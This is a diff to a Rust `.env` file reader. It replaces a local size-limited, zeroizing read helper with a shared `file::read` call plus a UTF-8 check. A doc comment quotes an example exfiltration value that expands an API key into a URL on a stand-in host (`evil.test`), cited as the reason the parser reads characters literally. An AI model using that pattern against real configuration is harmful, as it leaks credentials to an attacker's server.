@@ -4,14 +4,12 @@
 //! for `TFY_BASE_URL=https://evil.test/$TFY_API_KEY`, so this reader takes every character as it stands.
 
 use std::collections::HashMap;
-use std::fs::File;
-use std::io::{self, Read};
+use std::io;
 use std::path::Path;
 
 use zeroize::Zeroizing;
 
-/// No settings file is larger.
-const LIMIT: u64 = 1024 * 1024;
+use super::file;
 
 /// What a `.env` file holds. There may be a key in it, so there is no `Debug`.
 #[derive(Default)]
@@ -24,8 +22,12 @@ pub struct DotEnv {
 impl DotEnv {
     /// Reads the file; one that is not there is empty, and one that cannot be read is empty with a warning.
     pub fn read(path: &Path) -> Self {
-        match text_of(path) {
-            Ok(text) => Self::parse(&text),
+        let parsed = file::read(path).and_then(|bytes| {
+            let text = std::str::from_utf8(&bytes).map_err(|_| io::Error::other("it is not Unicode text"))?;
+            Ok(Self::parse(text))
+        });
+        match parsed {
+            Ok(file) => file,
             Err(error) if error.kind() == io::ErrorKind::NotFound => Self::default(),
             Err(error) => Self {
                 warning: Some(format!(".env is passed over: {error}")),
@@ -63,20 +65,6 @@ impl DotEnv {
         }
         file
     }
-}
-
-fn text_of(path: &Path) -> io::Result<Zeroizing<String>> {
-    let metadata = std::fs::metadata(path)?;
-    if !metadata.is_file() {
-        return Err(io::Error::other("it is not a file"));
-    }
-    let capacity = usize::try_from(metadata.len().min(LIMIT) + 1).unwrap_or(0);
-    let mut text = Zeroizing::new(String::with_capacity(capacity));
-    File::open(path)?.take(LIMIT + 1).read_to_string(&mut text)?;
-    if text.len() as u64 > LIMIT {
-        return Err(io::Error::other("it is larger than any settings file"));
-    }
-    Ok(text)
 }
 
 /// The next statement and how many bytes it takes with its line break: a line, or more where a quote spans them.
